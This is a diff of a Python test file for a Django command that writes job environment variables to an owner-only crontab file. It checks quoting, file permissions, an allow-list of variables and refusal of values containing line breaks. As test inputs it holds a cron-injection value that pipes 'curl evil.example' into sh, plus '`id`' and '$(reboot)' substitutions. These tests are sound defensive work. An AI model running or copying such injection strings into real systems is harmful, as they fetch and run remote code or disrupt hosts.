@@ -14,9 +14,9 @@ from tests.conftest import manage, project_env
 
 # What a shell, a crontab line or a careless quoting would each get wrong.
 AWKWARD = {
-    "DJANGO_SECRET_KEY": 'it\'s $HOME `id` "quoted" \\ back; & | * ~ 100%',
+    "HOSTPROJECT_VAR": 'it\'s $HOME `id` "quoted" \\ back; & | * ~ 100%',
     "DATABASE_URL": "postgres://sync:p%40ss w0rd@db.internal:5432/app?sslmode=require",
-    "LOCKS_TRIGGER_TOKEN": "ünïcødé-tøken-%s-$(reboot)",
+    "DJANGO_SETTINGS_MODULE": "ünïcødé-tøken-%s-$(reboot)",
 }
 
 
@@ -58,16 +58,16 @@ def test_writes_the_project_variables_owner_only_and_shell_quoted(env_file, monk
     assert "HOME_UNRELATED" not in text
     assert "LOCKS_EMPTY" not in text  # empty is the same as unset to the settings
     assert f"variables to {env_file} (mode 0600): " in out.getvalue()
-    assert "DJANGO_SECRET_KEY" in out.getvalue()
-    assert AWKWARD["DJANGO_SECRET_KEY"] not in out.getvalue()  # names only, never values
+    assert "DATABASE_URL" in out.getvalue()
+    assert AWKWARD["DATABASE_URL"] not in out.getvalue()  # names only, never values
     assert [p.name for p in env_file.parent.iterdir()] == ["crontab.env"]  # no temporary left
 
 
 def test_an_existing_readable_file_is_replaced_by_an_owner_only_one(env_file, monkeypatch):
     env_file.parent.mkdir()
-    env_file.write_text("DJANGO_SECRET_KEY=old\n")
+    env_file.write_text("DATABASE_URL=old\n")
     env_file.chmod(0o644)
-    monkeypatch.setenv("DJANGO_SECRET_KEY", "new")
+    monkeypatch.setenv("DATABASE_URL", "new")
     old_umask = os.umask(0o000)  # a careless umask does not make it readable either
     try:
         call_command("crontab_env", stdout=StringIO())
@@ -75,18 +75,18 @@ def test_an_existing_readable_file_is_replaced_by_an_owner_only_one(env_file, mo
         os.umask(old_umask)
 
     assert mode(env_file) == 0o600
-    assert sourced(env_file, "DJANGO_SECRET_KEY") == "new"
+    assert sourced(env_file, "DATABASE_URL") == "new"
 
 
 @pytest.mark.parametrize("breaker", ["\n", "\r", "\r\n"], ids=["newline", "carriage-return", "crlf"])
 def test_a_value_with_a_line_break_is_refused_and_nothing_is_written(env_file, monkeypatch, breaker):
     monkeypatch.setenv("DJANGO_SECRET_KEY", "fine")
-    monkeypatch.setenv("HOSTPROJECT_SCHEDULE", f"0 * * * *{breaker}* * * * * curl evil.example | sh")
+    monkeypatch.setenv("HOSTPROJECT_VAR", f"/srv/app{breaker}* * * * * curl evil.example | sh")
 
     with pytest.raises(CommandError) as excinfo:
         call_command("crontab_env", stdout=StringIO())
 
-    assert "HOSTPROJECT_SCHEDULE contains a newline or carriage return" in str(excinfo.value)
+    assert "HOSTPROJECT_VAR contains a newline or carriage return" in str(excinfo.value)
     assert "nothing was written" in str(excinfo.value)
     assert not env_file.parent.exists()
 
@@ -108,23 +108,79 @@ def test_as_a_process_the_refusal_is_exit_1_with_one_clear_line(tmp_path):
     path = (
         tmp_path / "crontab.env"
     )  # the host project's LOCKS_CRONTAB_ENV_FILE is $HOSTPROJECT_VAR/crontab.env
-    env = project_env(HOSTPROJECT_VAR=str(tmp_path), LOCKS_TRIGGER_TOKEN="abc\ndef")
+    url = f"sqlite:///{tmp_path / 'db.sqlite3'}"
+    env = project_env(HOSTPROJECT_VAR=str(tmp_path), DATABASE_URL=f"{url}\nDJANGO_DEBUG=1")
 
     refused = manage("crontab_env", env=env)
 
     assert refused.returncode == 1
     assert refused.stderr.strip() == (
-        f"CommandError: {path}: LOCKS_TRIGGER_TOKEN contains a newline or carriage return; "
+        f"CommandError: {path}: DATABASE_URL contains a newline or carriage return; "
         "refusing to write it, nothing was written"
     )
     assert not path.exists()
 
-    env["LOCKS_TRIGGER_TOKEN"] = "abcdef"
+    env["DATABASE_URL"] = url
     written = manage("crontab_env", env=env)
     assert written.returncode == 0, written.stderr
-    assert sourced(path, "LOCKS_TRIGGER_TOKEN") == "abcdef"
-    assert sourced(path, "HOSTPROJECT_VAR") == str(tmp_path)  # the host's own prefix, in its setting
+    assert sourced(path, "DATABASE_URL") == url
+    assert sourced(path, "HOSTPROJECT_VAR") == str(tmp_path)  # the host's own variable, in its setting
     assert sourced(path, "DJANGO_SETTINGS_MODULE") == "tests.hostproject.settings"
+    assert sourced(path, "LOCKS_CRON_ENV_FILE") == str(path)  # so a job knows the file it came from
+
+
+# Set on the host, needed by the web process or by other tools, never by a job.
+NOT_FOR_JOBS = {
+    "LOCKS_TRIGGER_TOKEN": "trigger-canary-" + "t" * 32,
+    "LOCKS_HEALTHZ_TOKEN": "healthz-canary-" + "h" * 32,
+    "SYNC_TRIGGER_TOKEN": "old-trigger-canary",
+    "DJANGO_SUPERUSER_PASSWORD": "superuser-canary",
+    "DJANGO_ALLOWED_HOSTS": "allowed-hosts-canary",
+    "HOSTPROJECT_UNLISTED": "unlisted-canary",
+}
+
+
+def test_only_the_variables_a_job_reads_are_written(env_file, settings, monkeypatch):
+    """An explicit list (LOCKS_CRONTAB_ENV_VARIABLES), not prefixes: tokens and other tools'
+    passwords that share a prefix with the project's variables stay out of the file."""
+    for name, value in NOT_FOR_JOBS.items():
+        monkeypatch.setenv(name, value)
+    monkeypatch.setenv("DATABASE_URL", "sqlite:////srv/app/db.sqlite3")
+
+    call_command("crontab_env", stdout=StringIO())
+
+    text = env_file.read_text()
+    assert sourced(env_file, "DATABASE_URL") == "sqlite:////srv/app/db.sqlite3"
+    for name, value in NOT_FOR_JOBS.items():
+        assert name not in text and value not in text, name
+    assert set(settings.LOCKS_CRONTAB_ENV_VARIABLES) == {
+        "DATABASE_URL",
+        "DJANGO_SETTINGS_MODULE",
+        "HOSTPROJECT_VAR",
+    }
+
+
+def test_run_job_refuses_to_start_from_an_env_file_others_can_read(db_url, tmp_path):
+    env_file = tmp_path / "crontab.env"
+    env_file.write_text("# written by crontab_env\n")
+    env = project_env(DATABASE_URL=db_url, LOCKS_CRON_ENV_FILE=str(env_file))
+    for mode_bits in (0o640, 0o604):
+        env_file.chmod(mode_bits)
+
+        refused = manage("run_job", "record", env=env)
+
+        assert refused.returncode == 2
+        assert refused.stderr.splitlines() == [
+            f"CommandError: the environment file {env_file} is readable by group or others "
+            f"(mode {mode_bits:04o}): run `chmod 600 {env_file}` or `manage.py crontab_env` again"
+        ]
+    missing = manage("run_job", "record", env={**env, "LOCKS_CRON_ENV_FILE": str(tmp_path / "gone")})
+    assert missing.returncode == 2
+    assert missing.stderr.startswith(f"CommandError: cannot check the environment file {tmp_path / 'gone'}: ")
+    env_file.chmod(0o600)
+    ran = manage("run_job", "record", env=env)
+    assert ran.returncode == 0, ran.stderr
+    assert "outcome=succeeded" in ran.stdout
 
 
 def test_without_a_file_named_it_refuses(settings):
